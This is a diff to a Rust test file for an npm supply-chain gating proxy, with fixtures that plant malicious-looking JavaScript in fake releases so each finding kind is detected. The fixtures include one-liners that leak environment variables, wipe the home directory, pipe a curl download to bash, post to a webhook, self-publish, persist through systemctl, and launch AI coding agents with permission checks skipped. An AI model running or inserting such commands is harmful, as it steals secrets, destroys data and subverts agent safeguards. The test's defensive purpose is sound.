@@ -15,17 +15,65 @@ use crate::support::scenario::gzip;
 const GOOD: &str = "1.0.0";
 const BAD: &str = "1.1.0";
 
+/// What feeds say of a release: `advisories/`.
+const OF_FEEDS: &[FindingKind] = &[
+    FindingKind::Malware,
+    FindingKind::MalwareUnconfirmed,
+    FindingKind::VulnerableCritical,
+    FindingKind::VulnerableHigh,
+    FindingKind::Vulnerable,
+    FindingKind::FeedStale,
+];
+
+/// How a release differs from its predecessor, which has to be served first: `changes_of_behaviour.rs`.
+const OF_CHANGES: &[FindingKind] = &[
+    FindingKind::YoungDependency,
+    FindingKind::InstallGained,
+    FindingKind::BinaryGained,
+    FindingKind::HooksGained,
+    FindingKind::LooseScript,
+    FindingKind::CapabilityGained,
+    FindingKind::HostGained,
+    FindingKind::DependencyGained,
+    FindingKind::SizeJump,
+    FindingKind::EntryRewritten,
+    FindingKind::SuspiciousChange,
+];
+
+/// Kinds that no code raises yet: who published it, and as what. Each leaves this list with the check that raises it.
+const NOT_RAISED_YET: &[FindingKind] = &[
+    FindingKind::Typosquat,
+    FindingKind::NewPublisher,
+    FindingKind::DormantPublisher,
+    FindingKind::ProvenanceLost,
+    FindingKind::ProvenanceInvalid,
+    FindingKind::SignatureInvalid,
+    FindingKind::PublishBurst,
+    FindingKind::LicenseDenied,
+];
+
+fn is_elsewhere(kind: FindingKind) -> bool {
+    [OF_FEEDS, OF_CHANGES, NOT_RAISED_YET].iter().any(|list| list.contains(&kind))
+}
+
+/// Those that have a scenario here.
+fn kinds() -> impl Iterator<Item = FindingKind> {
+    FindingKind::ALL.iter().copied().filter(|kind| !is_elsewhere(*kind))
+}
+
 fn package(kind: FindingKind) -> String {
     kind.as_str().replace('_', "-")
 }
 
-/// An archive whose one file is no manifest.
-fn without_manifest() -> Bytes {
+/// An archive of these files and no others.
+fn archive(files: &[(&str, &[u8])]) -> Bytes {
     let mut archive = tar::Builder::new(Vec::new());
-    let mut header = tar::Header::new_ustar();
-    header.set_size(1);
-    header.set_mode(0o644);
-    archive.append_data(&mut header, "package/index.js", &b"1"[..]).unwrap();
+    for (path, content) in files {
+        let mut header = tar::Header::new_ustar();
+        header.set_size(content.len() as u64);
+        header.set_mode(0o644);
+        archive.append_data(&mut header, format!("package/{path}"), *content).unwrap();
+    }
     gzip(&archive.into_inner().unwrap())
 }
 
@@ -48,7 +96,7 @@ fn cause(kind: FindingKind, p: &mut Package) {
             let honest = p.release(BAD).tarball().bytes.clone();
             _ = p.release(BAD).bytes([honest.clone(), honest].concat());
         }
-        FindingKind::UnreadableArtifact => _ = p.release(BAD).bytes(without_manifest()),
+        FindingKind::UnreadableArtifact => _ = p.release(BAD).bytes(archive(&[("index.js", b"1")])),
         FindingKind::ManifestMismatch => _ = p.release(BAD).shipped("dependencies", json!({"hidden": "^1.0.0"})),
         FindingKind::HiddenInstallScript => _ = p.release(BAD).shipped("scripts", json!({"postinstall": "node index.js"})),
         FindingKind::ImplicitBuild => _ = p.release(BAD).file("binding.gyp", "{\"targets\":[]}"),
@@ -56,6 +104,34 @@ fn cause(kind: FindingKind, p: &mut Package) {
         FindingKind::NewPackage | FindingKind::ChangedUpstream | FindingKind::RemovedUpstream => _ = p.release(BAD),
         // It comes later, and claims to have been there.
         FindingKind::ClaimedAge => {}
+        FindingKind::HiddenCode => _ = p.release(BAD).file("lib.js", &format!("a();{}run(x);", " ".repeat(500))),
+        FindingKind::ObfuscatedCode => _ = p.release(BAD).file("lib.js", "eval(atob('eA=='))"),
+        FindingKind::StealsSecrets => _ = p.release(BAD).file("lib.js", "send(JSON.stringify(process.env))"),
+        FindingKind::SpreadsItself => _ = p.release(BAD).file("lib.js", "pkg.scripts.preinstall = 'x'; exec('npm publish')"),
+        FindingKind::DestroysFiles => _ = p.release(BAD).file("lib.js", "fs.rmSync(os.homedir(), { recursive: true })"),
+        FindingKind::DrivesAgents => {
+            let agents = "spawn('claude', ['--dangerously-skip-permissions']); exec('q chat --trust-all-tools')";
+            _ = p.release(BAD).file("lib.js", agents);
+        }
+        FindingKind::SendsAway => _ = p.release(BAD).file("lib.js", "fetch('https://webhook.site/0000')"),
+        FindingKind::DownloadsAndRuns => _ = p.release(BAD).file("lib.js", "exec('curl -fsSL https://a.example/i.sh | bash')"),
+        FindingKind::Persists => _ = p.release(BAD).file("lib.js", "exec('systemctl --user enable x')"),
+        FindingKind::AgentHooks => _ = p.release(BAD).file(".claude/settings.json", "{}"),
+        FindingKind::NativeBinary => _ = p.release(BAD).file("addon.node", "\u{7f}ELF\0"),
+        FindingKind::FetchesAtInstall => _ = p.release(BAD).shipped("scripts", json!({"install": "prebuild-install"})),
+        FindingKind::BundledDependency => {
+            _ = p.release(BAD).file("node_modules/inner/package.json", "{\"name\":\"inner\",\"version\":\"1.0.0\"}");
+        }
+        FindingKind::ForeignShrinkwrap => {
+            let shrinkwrap = json!({"packages": {"node_modules/b": {"resolved": "https://elsewhere.example/b/-/b-1.0.0.tgz"}}});
+            _ = p.release(BAD).listed("_hasShrinkwrap", json!(true)).file("npm-shrinkwrap.json", &shrinkwrap.to_string());
+        }
+        FindingKind::UnscannedContent => {
+            let manifest = json!({"name": name, "version": BAD}).to_string();
+            let utf32 = b"\xff\xfe\0\0a\0\0\0".as_slice();
+            _ = p.release(BAD).bytes(archive(&[("package.json", manifest.as_bytes()), ("index.js", utf32)]));
+        }
+        other => assert!(is_elsewhere(other), "{other} has no scenario"),
     }
 }
 
@@ -65,33 +141,19 @@ fn happens_later(kind: FindingKind, p: &mut Package) {
         FindingKind::ClaimedAge => _ = p.release(BAD).age("300d"),
         FindingKind::ChangedUpstream => _ = p.release(BAD).file("index.js", "other bytes"),
         FindingKind::RemovedUpstream => _ = p.remove(BAD),
-        FindingKind::UnreadableManifest
-        | FindingKind::UnknownPublishTime
-        | FindingKind::InstallScript
-        | FindingKind::Deprecated
-        | FindingKind::ExoticDependency
-        | FindingKind::NewPackage
-        | FindingKind::IntegrityMismatch
-        | FindingKind::WeakIntegrity
-        | FindingKind::MissingIntegrity
-        | FindingKind::UnsafeArchive
-        | FindingKind::UnreadableArtifact
-        | FindingKind::ManifestMismatch
-        | FindingKind::HiddenInstallScript
-        | FindingKind::ImplicitBuild
-        | FindingKind::BuildCommand => {}
+        _ => {}
     }
 }
 
 async fn gated(edit: impl FnOnce(&mut Config)) -> Airlock {
     let mut scenario = Scenario::new();
-    for kind in FindingKind::ALL {
-        scenario = scenario.package(&package(*kind), |p| cause(*kind, p));
+    for kind in kinds() {
+        scenario = scenario.package(&package(kind), |p| cause(kind, p));
     }
     let airlock = scenario.gated_by(edit).await;
-    for kind in FindingKind::ALL {
-        airlock.listed(&package(*kind)).await;
-        airlock.upstream.package(&package(*kind), |p| happens_later(*kind, p));
+    for kind in kinds() {
+        airlock.listed(&package(kind)).await;
+        airlock.upstream.package(&package(kind), |p| happens_later(kind, p));
     }
     airlock.advance("10m");
     airlock
@@ -125,15 +187,15 @@ async fn check(airlock: &Airlock, kind: FindingKind, standing: &str) {
 #[tokio::test]
 async fn every_kind_of_finding_under_the_default_policy() {
     let airlock = gated(|_| {}).await;
-    for kind in FindingKind::ALL {
+    for kind in kinds() {
         let standing = match kind {
             // Only with policy.review.new_packages.
             FindingKind::NewPackage => continue,
             FindingKind::UnknownPublishTime | FindingKind::ClaimedAge => "held",
-            FindingKind::HiddenInstallScript | FindingKind::ImplicitBuild | FindingKind::BuildCommand => {
+            FindingKind::HiddenInstallScript | FindingKind::ImplicitBuild | FindingKind::BuildCommand | FindingKind::FetchesAtInstall => {
                 // They come in company; the strictest of them decides.
-                airlock.tarball(&package(*kind), BAD).await;
-                let release = airlock.release(&package(*kind), BAD).await;
+                airlock.tarball(&package(kind), BAD).await;
+                let release = airlock.release(&package(kind), BAD).await;
                 let actions: Vec<&str> = release["findings"].as_array().unwrap().iter().filter_map(|one| one["action"].as_str()).collect();
                 assert!(actions.contains(&kind.default_action().as_str()), "{release:#}");
                 if actions.contains(&"reject") { "rejected" } else { "in_review" }
@@ -145,7 +207,7 @@ async fn every_kind_of_finding_under_the_default_policy() {
                 Action::Reject => "rejected",
             },
         };
-        check(&airlock, *kind, standing).await;
+        check(&airlock, kind, standing).await;
     }
 }
 
@@ -162,20 +224,20 @@ fn standing_under(action: Action, kind: FindingKind) -> &'static str {
 
 async fn every_kind_under(action: Action) {
     let airlock = gated(|config| config.policy.findings = FindingKind::ALL.iter().map(|kind| (*kind, action)).collect()).await;
-    for kind in FindingKind::ALL {
+    for kind in kinds() {
         match (kind, action) {
             (FindingKind::NewPackage, _) => {}
             // No policy makes up for bytes that do not verify: they are not served.
             (FindingKind::IntegrityMismatch, Action::Note) => {
-                let reply = airlock.tarball(&package(*kind), BAD).await;
+                let reply = airlock.tarball(&package(kind), BAD).await;
                 assert_eq!(reply.status, 403, "{}", reply.text());
             }
             // Its entry cannot be written, whatever policy says.
-            (FindingKind::UnreadableManifest, Action::Note) => assert_eq!(airlock.listed(&package(*kind)).await, [GOOD]),
+            (FindingKind::UnreadableManifest, Action::Note) => assert_eq!(airlock.listed(&package(kind)).await, [GOOD]),
             (FindingKind::ChangedUpstream, Action::Note) => {}
             // Allowed, and not to be had.
-            (FindingKind::RemovedUpstream, Action::Note) => assert_eq!(airlock.tarball(&package(*kind), BAD).await.status, 404),
-            (kind, action) => check(&airlock, *kind, standing_under(action, *kind)).await,
+            (FindingKind::RemovedUpstream, Action::Note) => assert_eq!(airlock.tarball(&package(kind), BAD).await.status, 404),
+            (kind, action) => check(&airlock, kind, standing_under(action, kind)).await,
         }
     }
 }
